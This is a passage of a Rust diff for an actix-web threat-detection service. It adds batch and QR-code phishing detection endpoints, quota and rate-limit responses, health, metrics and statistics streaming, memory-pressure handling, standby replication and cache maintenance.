+    if settings.overrides.contains_key(&hash_string(&req.content)) || state.honeytokens.triggered_by(&req.content).is_some() {
+        return None;
+    }
+    Some(format!(
+        "{}:{}{}",
+        req.threat_type,
+        req.context.as_deref().unwrap_or(""),
+        if req.explain { ":explain" } else { "" }
+    ))
+}
+
+/// Flag a verdict computed without some of its dependencies
+fn mark_degraded(result: &mut ThreatDetectionResponse, components: &[&str]) {
+    if !components.is_empty() {
+        result.degraded = true;
+        result.degraded_components = components.iter().map(|c| c.to_string()).collect();
+    }
+}
+
+/// 503 for requests whose threat type depends on a failed-closed component
+fn degraded_unavailable(components: &[&str]) -> HttpResponse {
+    HttpResponse::ServiceUnavailable().json(serde_json::json!({
+        "error": "Detection unavailable while required components are down",
+        "components": components,
+    }))
+}
+
+/// 429 for a client whose detections would go past its daily quota, or
+/// that cannot be counted today
+fn quota_exceeded(state: &AppState, refusal: &Refusal) -> HttpResponse {
+    let resets_at = refusal.resets_at();
+    let retry_after = (resets_at - state.clock.utc()).num_seconds().max(1);
+    let mut response = HttpResponse::TooManyRequests();
+    response.insert_header((actix_web::http::header::RETRY_AFTER, retry_after.to_string()));
+    match refusal {
+        Refusal::Exhausted(usage) => with_quota_headers(
+            response.json(serde_json::json!({
+                "error": "Daily detection quota exceeded",
+                "limit": usage.limit,
+                "used": usage.used,
+                "resets_at": resets_at.to_rfc3339(),
+            })),
+            Some(usage),
+        ),
+        Refusal::Full { .. } => response.json(serde_json::json!({
+            "error": "Too many clients counted against daily quotas",
+            "resets_at": resets_at.to_rfc3339(),
+        })),
+    }
+}
+
+/// Add the caller's quota standing to a response, if it has a quota
+fn with_quota_headers(mut response: HttpResponse, usage: Option<&Usage>) -> HttpResponse {
+    use actix_web::http::header::{HeaderName, HeaderValue};
+    if let Some(usage) = usage {
+        let headers = response.headers_mut();
+        for (name, value) in [
+            ("x-quota-limit", usage.limit.to_string()),
+            ("x-quota-remaining", usage.remaining().to_string()),
+            ("x-quota-reset", usage.resets_at.to_rfc3339()),
+        ] {
+            if let Ok(value) = HeaderValue::from_str(&value) {
+                headers.insert(HeaderName::from_static(name), value);
+            }
+        }
+    }
+    response
+}
+
+/// Identity of a request's content, shared by cache and idempotency keys
+fn request_fingerprint(req: &ThreatDetectionRequest) -> String {
+    format!(
+        "{}:{}:{}{}",
+        req.threat_type,
+        req.content,
+        req.context.as_deref().unwrap_or(""),
+        if req.explain { ":explain" } else { "" }
+    )
+}
+
+/// Client-supplied `Idempotency-Key` header
+fn idempotency_key(req: &HttpRequest) -> Option<String> {
+    req.headers()
+        .get("Idempotency-Key")
+        .and_then(|v| v.to_str().ok())
+        .map(|v| v.trim().to_string())
+        .filter(|v| !v.is_empty())
+}
+
+/// Who is calling, for scoping per-client state such as idempotency keys
+fn client_identity(req: &HttpRequest) -> String {
+    format!("{}|{}", tenant_id(req).unwrap_or_default(), actor(req))
+}
+
+/// Batch detection endpoint
+async fn detect_batch(
+    http_req: HttpRequest,
+    body: web::Json<serde_json::Value>,
+    state: web::Data<AppState>,
+) -> Result<HttpResponse> {
+    if state.pressure.level() == Level::Hard {
+        return Ok(HttpResponse::ServiceUnavailable()
+            .insert_header((actix_web::http::header::RETRY_AFTER, state.settings.memory_check_interval_secs.max(1).to_string()))
+            .json(error_body("Batch detection is paused under memory pressure")));
+    }
+    if let Some(rejection) = strict_fields(&state, &body, Shape::Batch).or_else(|| disabled(&state, &body, Shape::Batch)) {
+        return Ok(rejection);
+    }
+    let req = match validation::batch_request(body.into_inner(), &state.settings) {
+        Ok(req) => req,
+        Err(violations) => return Ok(invalid_request(&violations)),
+    };
+    if let Err(wait) = state.charge_rate_items(&http_req, req.threats.len()) {
+        return Ok(ratelimit::rate_limited(wait));
+    }
+    let start = std::time::Instant::now();
+    let received = state.clock.now();
+    
+    // The whole batch is rejected if any item needs a failed-closed component
+    let degradations: Vec<_> = req.threats
+        .iter()
+        .map(|threat| request_degradation(&http_req, &state, &threat.threat_type))
+        .collect();
+    let mut closed: Vec<&str> = degradations.iter().flat_map(|d| d.closed.iter().copied()).collect();
+    if !closed.is_empty() {
+        closed.sort_unstable();
+        closed.dedup();
+        state.lock_stats().degraded_rejections += 1;
+        return Ok(degraded_unavailable(&closed));
+    }
+    
+    // Waits for a turn while other batches run; turned away if too many already wait
+    let _job = match state.batch_jobs.admit().await {
+        Ok(job) => job,
+        Err(jobs) => return Ok(batch_jobs_full(&jobs)),
+    };
+    
+    // Every item counts; a batch that does not fit whole is not run at all
+    let usage = match state.charge_quota(&http_req, req.threats.len() as u64) {
+        Ok(usage) => usage,
+        Err(refusal) => return Ok(quota_exceeded(&state, &refusal)),
+    };
+    
+    let degraded: Vec<&str> = degradations.iter().flat_map(|d| d.open.iter().copied()).collect();
+    let deadline = request_deadline(&http_req, &state.settings, received);
+    let (share_key, weight) = batch_share(&http_req, &state);
+    
+    // Each item waits for a fair share of the batch slots, so items of
+    // other clients' batches interleave with this one's. Items holding a
+    // slot run side by side on the blocking pool, off the async workers.
+    let actor = actor(&http_req);
+    let tenant = tenant_id(&http_req);
+    let degraded: Vec<String> = degraded.into_iter().map(str::to_string).collect();
+    let count = req.threats.len();
+    let detections = req.threats.iter().enumerate().map(|(index, threat)| {
+        let (state, share_key) = (state.clone(), &share_key);
+        let (threat, actor, tenant, degraded) = (threat.clone(), actor.clone(), tenant.clone(), degraded.clone());
+        async move {
+            let _slot = state.batch_scheduler.acquire(share_key, weight).await;
+            let item_deadline = batch_item_deadline(&state.settings, deadline, received, state.clock.now(), index, count);
+            web::block(move || {
+                let tenants = state.tenants.read().unwrap();
+                let tenant_id = tenant;
+                let tenant = tenant_id.as_deref().and_then(|id| tenants.get(id));
+                let thresholds = state.thresholds.read().unwrap();
+                let degraded: Vec<&str> = degraded.iter().map(String::as_str).collect();
+                let url_blocklist = state.url_blocklist(&degraded);
+                let pipelines = state.pipelines.read().unwrap().clone();
+                let mut ctx = state.detection_context(tenant_id.as_deref(), tenant, &thresholds, url_blocklist.as_deref(), &pipelines);
+                ctx.deadline = item_deadline;
+                
+                let item_start = std::time::Instant::now();
+                let mut result = state.run_detection(&actor, &threat, &ctx);
+                let elapsed = item_start.elapsed();
+                result.latency_ms = elapsed.as_millis() as u64;
+                (result, elapsed)
+            })
+            .await
+        }
+    });
+    // Results come back in submission order, however the items interleaved
+    let (mut results, elapsed): (Vec<ThreatDetectionResponse>, Vec<Duration>) =
+        futures::future::join_all(detections).await.into_iter().collect::<Result<Vec<_>, _>>()?.into_iter().unzip();
+    for ((threat, degradation), result) in req.threats.iter().zip(&degradations).zip(&mut results) {
+        mark_degraded(result, &degradation.open);
+        state.sign(result);
+        state.link_fingerprint(&http_req, threat, result);
+        state.track_session(&http_req, threat, result);
+        state.observe_watched(&http_req, threat, result);
+        state.offer_triage(&http_req, threat, result, None);
+    }
+    
+    // One locked section per batch, however many items it holds
+    if state.settings.batch_stats {
+        let mut stats = state.lock_stats();
+        for ((threat, result), elapsed) in req.threats.iter().zip(&results).zip(&elapsed) {
+            stats.record(&state.metrics, &threat.threat_type, result, *elapsed);
+        }
+    }
+    for (threat, result) in req.threats.iter().zip(&results) {
+        state.alert(&http_req, threat, result);
+        state.recorder.record(http_req.path(), threat, result);
+        state.log_decision(&http_req, threat, result);
+    }
+    for result in &mut results {
+        state.present(&http_req, result);
+    }
+    
+    let total_latency_ms = start.elapsed().as_millis() as u64;
+    if state.settings.response_templates.is_empty() {
+        let response = BatchDetectionResponse { results, total_latency_ms };
+        return Ok(with_quota_headers(HttpResponse::Ok().json(response), usage.as_ref()));
+    }
+    // Items of types without a template keep the standard shape
+    let untemplated = ResponseTemplate::default();
+    let results: Vec<serde_json::Value> = req
+        .threats
+        .iter()
+        .zip(&results)
+        .map(|(threat, result)| state.settings.response_templates.get(&threat.threat_type).unwrap_or(&untemplated).apply(result))
+        .collect();
+    let response = serde_json::json!({ "results": results, "total_latency_ms": total_latency_ms });
+    Ok(with_quota_headers(HttpResponse::Ok().json(response), usage.as_ref()))
+}
+
+/// 429 for a batch arriving with `batch_job_queue` batches already waiting
+fn batch_jobs_full(jobs: &JobStats) -> HttpResponse {
+    HttpResponse::TooManyRequests()
+        .insert_header((actix_web::http::header::RETRY_AFTER, "1"))
+        .json(serde_json::json!({
+            "error": "Too many batch requests in progress",
+            "running": jobs.running,
+            "queued": jobs.queued,
+        }))
+}
+
+/// Key a batch's items are scheduled under, and its weight: the tenant's
+/// `batch_weight`, or 1 for clients without a tenant
+fn batch_share(http_req: &HttpRequest, state: &AppState) -> (String, u32) {
+    let weight = tenant_id(http_req)
+        .and_then(|id| state.tenants.read().unwrap().get(&id).and_then(|t| t.settings.batch_weight))
+        .unwrap_or(1);
+    (client_key(http_req), weight)
+}
+
+/// Who a request counts against: its tenant, or its address without one
+fn client_key(http_req: &HttpRequest) -> String {
+    match tenant_id(http_req) {
+        Some(id) => format!("tenant:{}", id),
+        None => format!("client:{}", actor(http_req)),
+    }
+}
+
+/// Run one request through the active and the candidate pipelines side by
+/// side; nothing is cached, signed, alerted or recorded
+async fn detect_compare(
+    http_req: HttpRequest,
+    body: web::Json<serde_json::Value>,
+    state: web::Data<AppState>,
+) -> Result<HttpResponse> {
+    let Some(candidate_pipelines) = state.candidate_pipelines.read().unwrap().clone() else {
+        return Ok(HttpResponse::NotFound().json(error_body("No candidate pipelines are configured")));
+    };
+    if let Some(rejection) = disabled(&state, &body, Shape::Detection) {
+        return Ok(rejection);
+    }
+    let req = match validation::detection_request(body.into_inner(), &state.settings) {
+        Ok(req) => req,
+        Err(violations) => return Ok(invalid_request(&violations)),
+    };
+    state.expire_temporary_rules();
+    
+    let (mut active, mut candidate) = {
+        let tenant_id = tenant_id(&http_req);
+        let tenants = state.tenants.read().unwrap();
+        let tenant = tenant_id.as_deref().and_then(|id| tenants.get(id));
+        let thresholds = state.thresholds.read().unwrap();
+        let url_blocklist = state.url_blocklist(&[]);
+        let active_pipelines = state.pipelines.read().unwrap().clone();
+        let run = |pipelines: &Pipelines| {
+            let start = std::time::Instant::now();
+            let ctx = state.detection_context(tenant_id.as_deref(), tenant, &thresholds, url_blocklist.as_deref(), pipelines);
+            let mut result = run_detection(&req, &ctx);
+            result.latency_ms = start.elapsed().as_millis() as u64;
+            result
+        };
+        (run(&active_pipelines), run(&candidate_pipelines))
+    };
+    
+    let agree = active.verdict == candidate.verdict;
+    if state.settings.compare_stats {
+        state.lock_stats().agreement.record(&req.threat_type, active.verdict, candidate.verdict);
+    }
+    state.present(&http_req, &mut active);
+    state.present(&http_req, &mut candidate);
+    Ok(HttpResponse::Ok().json(serde_json::json!({
+        "agree": agree,
+        "active": active,
+        "candidate": candidate,
+    })))
+}
+
+/// Candidate pipelines with unset types filled in from the active ones,
+/// or `None` when no candidate is configured
+fn candidate_ruleset(settings: &Settings) -> Option<Arc<Pipelines>> {
+    (!settings.candidate_pipelines.is_empty()).then(|| Arc::new(settings.candidate_ruleset()))
+}
+
+/// QR detection endpoint: decode codes in a PNG/JPEG body, check each URL
+async fn detect_qr(
+    http_req: HttpRequest,
+    mut payload: web::Payload,
+    state: web::Data<AppState>,
+) -> Result<HttpResponse> {
+    if state.detectors.get("url").is_none() {
+        let violation = Violation { pointer: String::new(), message: "threat type \"url\" is disabled".to_string() };
+        return Ok(detection_disabled(&[violation]));
+    }
+    let start = std::time::Instant::now();
+    let received = state.clock.now();
+    let limits = qr::QrLimits {
+        max_bytes: state.settings.qr_max_image_bytes,
+        max_pixels: state.settings.qr_max_pixels,
+    };
+    
+    // Read the body ourselves so oversized uploads get a structured error
+    let mut body = web::BytesMut::new();
+    while let Some(chunk) = payload.next().await {
+        body.extend_from_slice(&chunk?);
+        if body.len() > limits.max_bytes {
+            let e = qr::QrError::TooLarge { bytes: body.len(), max: limits.max_bytes };
+            return Ok(HttpResponse::PayloadTooLarge().json(qr_error_body(&e)));
+        }
+    }
+    
+    let timeout = Duration::from_millis(state.settings.qr_decode_timeout_ms);
+    let decoding = web::block(move || qr::decode(&body, &limits));
+    let (image, codes) = match tokio::time::timeout(timeout, decoding).await {
+        Ok(result) => match result? {
+            Ok(decoded) => decoded,
+            Err(e @ qr::QrError::UnsupportedFormat) => {
+                return Ok(HttpResponse::UnsupportedMediaType().json(qr_error_body(&e)));
+            }
+            Err(e @ qr::QrError::TooLarge { .. }) => {
+                return Ok(HttpResponse::PayloadTooLarge().json(qr_error_body(&e)));
+            }
+            Err(e) => return Ok(HttpResponse::UnprocessableEntity().json(qr_error_body(&e))),
+        },
+        Err(_) => {
+            warn!("QR decoding timed out after {} ms", timeout.as_millis());
+            return Ok(HttpResponse::UnprocessableEntity().json(serde_json::json!({
+                "error": format!("Image decoding exceeded {} ms", timeout.as_millis()),
+                "code": "decode_timeout",
+            })));
+        }
+    };
+    
+    let degradation = state.components.degradation("url");
+    if !degradation.closed.is_empty() {
+        state.lock_stats().degraded_rejections += 1;
+        return Ok(degraded_unavailable(&degradation.closed));
+    }
+    
+    // Each URL checked is one detection
+    let detections = codes.iter().filter(|code| matches!(code, qr::DecodedCode::Payload(text) if is_url_payload(text))).count();
+    if let Err(wait) = state.charge_rate_items(&http_req, detections) {
+        return Ok(ratelimit::rate_limited(wait));
+    }
+    let usage = match state.charge_quota(&http_req, detections as u64) {
+        Ok(usage) => usage,
+        Err(refusal) => return Ok(quota_exceeded(&state, &refusal)),
+    };
+    
+    let mut results: Vec<QrCodeResult> = {
+        let tenant_id = tenant_id(&http_req);
+        let tenants = state.tenants.read().unwrap();
+        let tenant = tenant_id.as_deref().and_then(|id| tenants.get(id));
+        let thresholds = state.thresholds.read().unwrap();
+        let url_blocklist = state.url_blocklist(&degradation.open);
+        let pipelines = state.pipelines.read().unwrap().clone();
+        let mut ctx = state.detection_context(tenant_id.as_deref(), tenant, &thresholds, url_blocklist.as_deref(), &pipelines);
+        ctx.deadline = request_deadline(&http_req, &state.settings, received);
+        
+        codes
+            .into_iter()
+            .map(|code| match code {
+                qr::DecodedCode::Payload(text) if is_url_payload(&text) => QrCodeResult {
+                    detection: Some({
+                        let mut result = detector::detect_phishing(&text, None, &ctx);
+                        mark_degraded(&mut result, &degradation.open);
+                        result
+                    }),
+                    payload: Some(text),
+                    note: None,
+                },
+                qr::DecodedCode::Payload(text) => QrCodeResult {
+                    payload: Some(text),
+                    detection: None,
+                    note: Some("Payload is not a URL".to_string()),
+                },
+                qr::DecodedCode::Unreadable(e) => QrCodeResult {
+                    payload: None,
+                    detection: None,
+                    note: Some(format!("QR code found but could not be read: {}", e)),
+                },
+            })
+            .collect()
+    };
+    
+    // Signed and presented once the locks are released, since the policy
+    // lookup reads tenants again
+    for result in results.iter_mut().filter_map(|r| r.detection.as_mut()) {
+        state.sign(result);
+        state.present(&http_req, result);
+    }
+    
+    let response = HttpResponse::Ok().json(QrDetectionResponse {
+        image,
+        codes_found: results.len(),
+        message: results.is_empty().then(|| "No QR code found".to_string()),
+        results,
+        total_latency_ms: start.elapsed().as_millis() as u64,
+    });
+    Ok(with_quota_headers(response, usage.as_ref()))
+}
+
+fn is_url_payload(text: &str) -> bool {
+    let lower = text.trim_start().to_lowercase();
+    lower.starts_with("http://") || lower.starts_with("https://")
+}
+
+fn qr_error_body(e: &qr::QrError) -> serde_json::Value {
+    serde_json::json!({ "error": e.to_string(), "code": e.code() })
+}
+
+/// Health check endpoint
+async fn health(state: web::Data<AppState>) -> Result<HttpResponse> {
+    Ok(HttpResponse::Ok().json(HealthStatus {
+        status: "healthy".to_string(),
+        version: "1.0.0".to_string(),
+        timestamp: state.clock.utc().with_timezone(&chrono::Local).to_rfc3339(),
+        engine_state_hash: state.engine_state().engine_state_hash.clone(),
+        memory_pressure: state.pressure.enabled().then(|| state.pressure.status()),
+        replication: state.replication.status(),
+    }))
+}
+
+/// Readiness probe: fails while a fail-closed component is down, and lists
+/// the artifacts a `--warn-only` start is running without
+async fn ready(state: web::Data<AppState>) -> HttpResponse {
+    if !state.warmup.ready() {
+        return HttpResponse::ServiceUnavailable().json(serde_json::json!({
+            "ready": false,
+            "warmup": state.warmup.status(),
+        }));
+    }
+    let failing = state.components.failing_closed();
+    if failing.is_empty() && state.preflight.is_empty() {
+        HttpResponse::Ok().json(serde_json::json!({ "ready": true }))
+    } else if failing.is_empty() {
+        HttpResponse::Ok().json(serde_json::json!({ "ready": true, "degraded": true, "preflight": state.preflight }))
+    } else {
+        HttpResponse::ServiceUnavailable().json(serde_json::json!({
+            "ready": false,
+            "components": failing,
+        }))
+    }
+}
+
+/// Run the warmup canaries off the async workers, then report how they went
+async fn warm_up(state: web::Data<AppState>) {
+    info!("Warming up with {} round(s) of canaries", state.settings.warmup_rounds);
+    let worker = state.clone();
+    match web::block(move || worker.warm_up()).await {
+        Ok(warmup::Status::Passed { duration_ms, .. }) => info!("Warmup passed in {}ms; ready", duration_ms),
+        Ok(warmup::Status::Failed { failures }) => error!("Warmup failed, staying unready: {}", failures.join("; ")),
+        Ok(warmup::Status::Running { .. }) => {}
+        Err(e) => error!("Warmup did not finish, staying unready: {}", e),
+    }
+}
+
+/// What this instance supports, for clients to negotiate against
+async fn get_capabilities(http_req: HttpRequest, state: web::Data<AppState>) -> HttpResponse {
+    conditional::json_hashed(&http_req, conditional::RULES_MAX_AGE_SECS, &state.capabilities())
+}
+
+/// Public half of the response signing key
+async fn signing_key(state: web::Data<AppState>) -> HttpResponse {
+    match &state.signer {
+        Some(signer) => HttpResponse::Ok().json(serde_json::json!({
+            "key_id": signer.key_id(),
+            "algorithm": signing::ALGORITHM,
+            "public_key": signer.public_key(),
+        })),
+        None => HttpResponse::NotFound().json(error_body("Response signing is not configured")),
+    }
+}
+
+/// Statistics endpoint
+async fn get_statistics(http_req: HttpRequest, state: web::Data<AppState>) -> Result<HttpResponse> {
+    Ok(conditional::json_hashed(&http_req, conditional::STATS_MAX_AGE_SECS, &state.statistics()))
+}
+
+#[derive(Debug, Deserialize)]
+struct TopQuery {
+    n: Option<usize>,
+}
+
+/// Most frequently seen threat content, by content hash
+async fn top_threats(query: web::Query<TopQuery>, state: web::Data<AppState>) -> HttpResponse {
+    let capacity = state.top_threats.capacity();
+    let n = query.n.unwrap_or(10).clamp(1, capacity.max(1));
+    HttpResponse::Ok().json(serde_json::json!({
+        "tracked_capacity": capacity,
+        "entries": state.top_threats.top(n),
+    }))
+}
+
+/// Canonical request/response pairs for client SDK conformance
+async fn test_vectors(state: web::Data<AppState>) -> HttpResponse {
+    HttpResponse::Ok().json(&*state.test_vectors())
+}
+
+/// Field-level comparison of a client's responses with the test vectors
+async fn verify_test_vectors(
+    body: web::Json<testvectors::Submission>,
+    state: web::Data<AppState>,
+) -> HttpResponse {
+    let report = testvectors::verify(&state.test_vectors(), body.into_inner());
+    HttpResponse::Ok().json(report)
+}
+
+/// Prometheus scrape endpoint, at `/metrics` and under `/api` beside the JSON stats
+async fn prometheus_metrics(state: web::Data<AppState>) -> HttpResponse {
+    let cache_size = state.lock_cache().len();
+    state.metrics.set_cache_size(cache_size);
+    if state.metrics.fine_grained() {
+        state.metrics.set_queue_depth("batch_slots", state.batch_scheduler.stats().queued);
+        state.metrics.set_queue_depth("batch_jobs", state.batch_jobs.stats().queued);
+        state.metrics.set_queue_depth("audit", state.audit.stats().map_or(0, |a| a.buffered));
+    }
+    HttpResponse::Ok()
+        .content_type("text/plain; version=0.0.4")
+        .body(state.metrics.render())
+}
+
+/// Admin: page through cache entries with their verdicts and hit counts
+async fn list_cache(
+    query: web::Query<cache::CacheQuery>,
+    state: web::Data<AppState>,
+) -> Result<HttpResponse> {
+    let cache = state.lock_cache();
+    match cache::list(&cache, &query, &state.settings, &*state.clock) {
+        Ok(page) => Ok(HttpResponse::Ok().json(page)),
+        Err(e) => Ok(HttpResponse::BadRequest().json(error_body(&e))),
+    }
+}
+
+/// Statistics pushed as Server-Sent Events at `stats_stream_interval_ms`
+async fn stream_statistics(state: web::Data<AppState>) -> HttpResponse {
+    let period = Duration::from_millis(state.settings.stats_stream_interval_ms.max(1));
+    let subscriber = SseSubscriber;
+    
+    let events = futures::stream::unfold(
+        (tokio::time::interval(period), state, subscriber),
+        |(mut interval, state, subscriber)| async move {
+            interval.tick().await;
+            let data = serde_json::to_string(&state.statistics()).unwrap_or_default();
+            let event = web::Bytes::from(format!("event: stats\ndata: {}\n\n", data));
+            Some((Ok::<_, actix_web::Error>(event), (interval, state, subscriber)))
+        },
+    );
+    
+    debug!("SSE stats subscriber connected");
+    HttpResponse::Ok()
+        .content_type("text/event-stream")
+        .insert_header(("Cache-Control", "no-cache"))
+        .streaming(events)
+}
+
+/// Evaluate watched domains and URLs again whenever the engine state
+/// changes, at most once per `watch_reevaluate_interval_secs`; changes in
+/// between are picked up by the next pass
+async fn reevaluate_watches(state: web::Data<AppState>) {
+    loop {
+        state.watches.reevaluation_due().await;
+        let pass = state.clone();
+        let evaluated = web::block(move || {
+            let targets = pass.watches.evaluable();
+            for (key, tenant, indicator) in &targets {
+                if let Some(response) = pass.evaluate_watched(tenant.as_deref(), indicator) {
+                    pass.watches.update(key, indicator, &response, watch::Source::Reevaluation);
+                }
+            }
+            targets.len()
+        })
+        .await;
+        match evaluated {
+            Ok(count) => debug!("Re-evaluated {} watched indicator(s)", count),
+            Err(e) => warn!("Watched indicator re-evaluation failed: {}", e),
+        }
+    }
+}
+
+/// Write watched verdict changes out in the background, gathering those
+/// made within `watch::PERSIST_DELAY` of each other into one write
+async fn persist_watches(state: web::Data<AppState>) {
+    loop {
+        state.watches.persist_requested().await;
+        tokio::time::sleep(watch::PERSIST_DELAY).await;
+        let pass = state.clone();
+        if let Err(e) = web::block(move || pass.watches.flush()).await {
+            warn!("Persisting watch lists failed: {}", e);
+        }
+    }
+}
+
+/// Rough bytes held by each bounded in-memory store
+fn store_estimates(state: &AppState) -> BTreeMap<&'static str, usize> {
+    BTreeMap::from([
+        ("cache", cache::estimated_bytes(&state.lock_cache())),
+        ("idempotency", state.idempotency.estimated_bytes()),
+        ("quotas", state.quotas.estimated_bytes()),
+        ("rate_limits", state.rate_limiter.estimated_bytes()),
+        ("fuzzy_index", state.fuzzy.estimated_bytes()),
+        ("fingerprints", state.fingerprints.as_ref().map_or(0, FingerprintIndex::estimated_bytes)),
+        ("recurrence", state.recurrence.estimated_bytes()),
+        ("sessions", state.sessions.as_ref().map_or(0, SessionStore::estimated_bytes)),
+        ("top_threats", state.top_threats.estimated_bytes()),
+        ("streams", state.streams.estimated_bytes()),
+        ("enrichments", state.enrichments.estimated_bytes()),
+        ("watches", state.watches.estimated_bytes()),
+        ("triage", state.triage.estimated_bytes()),
+    ])
+}
+
+/// Check the stores against the memory watermarks every `memory_check_interval_secs`
+async fn watch_memory(state: web::Data<AppState>) {
+    let mut interval = tokio::time::interval(Duration::from_secs(state.settings.memory_check_interval_secs.max(1)));
+    loop {
+        interval.tick().await;
+        relieve_pressure(&state, store_estimates(&state));
+    }
+}
+
+/// Shed load while the stores are over the memory watermarks, and give it
+/// back once they are not:
+/// - soft: drop clean cache entries, halve the cache, pause fingerprint history
+/// - hard: also quarter the cache, clear the fuzzy index and reject batches
+fn relieve_pressure(state: &AppState, stores: BTreeMap<&'static str, usize>) {
+    let level = state.pressure.evaluate(&stores);
+    let previous = state.pressure.level();
+    
+    let mut actions = Vec::new();
+    let capacity = match level {
+        Level::Normal => state.settings.cache_capacity,
+        Level::Soft => state.settings.cache_capacity / 2,
+        Level::Hard => state.settings.cache_capacity / 4,
+    };
+    {
+        let mut cache = state.lock_cache();
+        if level >= Level::Soft {
+            let clean: Vec<String> = cache.iter().filter(|(_, e)| !e.is_threat()).map(|(k, _)| k.clone()).collect();
+            for key in &clean {
+                cache.pop(key);
+            }
+            actions.push(format!("dropped {} clean cache entries", clean.len()));
+            actions.push(format!("cache capacity {}", capacity));
+            actions.push("fingerprint history paused".to_string());
+        }
+        cache.resize(NonZeroUsize::new(capacity).unwrap());
+    }
+    if level == Level::Hard {
+        state.fuzzy.clear();
+        actions.push("fuzzy index cleared".to_string());
+        actions.push("batch detection rejected".to_string());
+    }
+    
+    if level != previous {
+        let total: usize = stores.values().sum();
+        if level > previous {
+            warn!("Memory pressure {:?} -> {:?}: ~{} bytes in stores", previous, level, total);
+        } else {
+            info!("Memory pressure {:?} -> {:?}: ~{} bytes in stores", previous, level, total);
+        }
+        state.audit.record("memory.pressure", "system", serde_json::json!({
+            "from": previous,
+            "to": level,
+            "estimated_bytes": total,
+            "actions": actions,
+        }));
+    }
+    state.pressure.update(level, stores, actions, state.clock.utc());
+}
+
+/// Stream state changes to the standby, reconnecting with backoff
+async fn replicate_to_standby(state: web::Data<AppState>, peer: String) {
+    let mut rx = state.replication.outbound();
+    let mut backoff = Duration::from_secs(1);
+    loop {
+        match tokio::net::TcpStream::connect(&peer).await {
+            Ok(stream) => {
+                let connected = std::time::Instant::now();
+                let snapshot = || state.replication_snapshot();
+                let generation = || state.rules_generation.load(Ordering::SeqCst);
+                if let Err(e) = state.replication.stream(stream, &mut rx, snapshot, generation).await {
+                    warn!("Replication to standby {} interrupted: {}", peer, e);
+                }
+                // Only a connection that held resets the backoff, not one the standby refused
+                if connected.elapsed() >= replication::READ_TIMEOUT {
+                    backoff = Duration::from_secs(1);
+                }
+            }
+            Err(e) => debug!("Standby {} unreachable: {}", peer, e),
+        }
+        tokio::time::sleep(backoff).await;
+        backoff = (backoff * 2).min(Duration::from_secs(30));
+    }
+}
+
+/// Apply the primary's stream until this instance is promoted
+async fn receive_replication(state: web::Data<AppState>, listener: tokio::net::TcpListener) {
+    while state.replication.is_standby() {
+        let (mut stream, addr) = match listener.accept().await {
+            Ok(accepted) => accepted,
+            Err(e) => {
+                warn!("Replication accept failed: {}", e);
+                continue;
+            }
+        };
+        let mut session = match state.replication.accept(&mut stream).await {
+            Ok(session) => session,
+            Err(e) => {
+                warn!("Rejected replication from {}: {}", addr, e);
+                continue;
+            }
+        };
+        info!("Receiving replication from primary {}", addr);
+        loop {
+            match state.replication.receive(&mut stream, &mut session).await {
+                Ok(Some(frame)) => state.apply_replicated(frame),
+                Ok(None) => break,
+                Err(e) => {
+                    warn!("Replication from {} interrupted: {}", addr, e);
+                    break;
+                }
+            }
+        }
+        state.replication.disconnected();
+    }
+    info!("Stopped receiving replication");
+}
+
+/// Remove expired and stale cache entries without waiting for a lookup
+async fn sweep_cache(state: web::Data<AppState>) {
+    let mut interval = tokio::time::interval(Duration::from_secs(state.settings.cache_sweep_interval_secs));
+    loop {
+        interval.tick().await;
+        let version = state.ruleset_version.read().unwrap().clone();
+        let generation = state.rules_generation.load(Ordering::SeqCst);
+        let swept = cache::sweep(&mut state.lock_cache(), &state.settings, &version, generation, state.clock.now());
+        if swept.expired + swept.stale > 0 {
+            debug!("Cache sweep removed {} expired and {} stale entries", swept.expired, swept.stale);
+            let mut stats = state.lock_stats();
+            stats.cache_swept_expired += swept.expired as u64;
+            stats.cache_swept_stale += swept.stale as u64;
+        }
+    }
+}
+
+/// Flush statistics to StatsD for the life of the process
+async fn export_statsd(mut exporter: StatsdExporter, state: web::Data<AppState>) {
+    let mut interval = tokio::time::interval(Duration::from_millis(state.settings.statsd_flush_interval_ms.max(1)));
+    loop {
+        interval.tick().await;
+        let stats = state.statistics();
+        let counters = [
+            ("detections", stats.total_detections),
+            ("threats", stats.threats_detected),
+            ("cache_hits", stats.cache_hits),
+            ("cache_misses", stats.cache_misses),
+            ("cache_bypassed", stats.cache_bypassed),
+            ("degraded_verdicts", stats.degraded_verdicts),
+            ("degraded_rejections", stats.degraded_rejections),
+        ];
+        let gauges = [
+            ("cache_size", stats.cache_size as f64),
+            ("latency_ms.avg", stats.avg_latency_ms as f64),
+            ("latency_ms.cached_avg", stats.avg_latency_cached_ms as f64),
+            ("latency_ms.uncached_avg", stats.avg_latency_uncached_ms as f64),
+        ];
+        exporter.flush(&counters, &gauges).await;
+    }
+}
+
+/// Evaluate `stat_alerts` rules for the life of the process
+async fn watch_statistics(state: web::Data<AppState>) {
+    let mut interval = tokio::time::interval(Duration::from_secs(state.settings.stat_alert_interval_secs.max(1)));
+    loop {
+        // Scheduled tick times keep samples evenly spaced despite wakeup jitter
+        let tick = interval.tick().await.into_std();
+        // A manual clock only moves when advanced, so samples follow it instead
+        let at = if cfg!(feature = "manual-clock") { state.clock.now() } else { tick };
+        let rules = state.stat_alerts.read().unwrap().clone();
+        for transition in state.monitor.evaluate(state.sample(at), &rules) {
+            let (event, alert) = match transition {
+                Transition::Fired(alert) => {
+                    warn!("Statistics alert {} firing: {:?} = {:.3} (limit {:.3})",
+                        alert.rule, alert.metric, alert.value, alert.limit);
+                    ("stats.alert.firing", alert)
+                }
+                Transition::Resolved(alert) => {
+                    info!("Statistics alert {} resolved: {:?} = {:.3}", alert.rule, alert.metric, alert.value);
+                    ("stats.alert.resolved", alert)
+                }
+            };
+            state.audit.record(event, "system", serde_json::json!(alert));
+        }
+    }
+}
+
+/// Firing `stat_alerts` rules
+async fn list_alerts(state: web::Data<AppState>) -> HttpResponse {
+    HttpResponse::Ok().json(serde_json::json!({ "alerts": state.monitor.active() }))
+}
+
+/// Lives as long as an SSE stream; actix drops the stream when the client
+/// disconnects, which stops its interval timer
+struct SseSubscriber;
+
+impl Drop for SseSubscriber {
+    fn drop(&mut self) {
+        debug!("SSE stats subscriber disconnected");
+    }
+}
+
+/// Admin: a tenant's lists
+async fn get_tenant_lists(
+    http_req: HttpRequest,
+    path: web::Path<String>,
+    state: web::Data<AppState>,
+) -> Result<HttpResponse> {
+    let tenant_id = path.to_lowercase();
+    let tenants = state.tenants.read().unwrap();
+    match tenants.get(&tenant_id) {
+        Some(tenant) => Ok(conditional::json(
+            &http_req,
+            format!("tenant-{}-{}", tenant_id, tenant.generation),
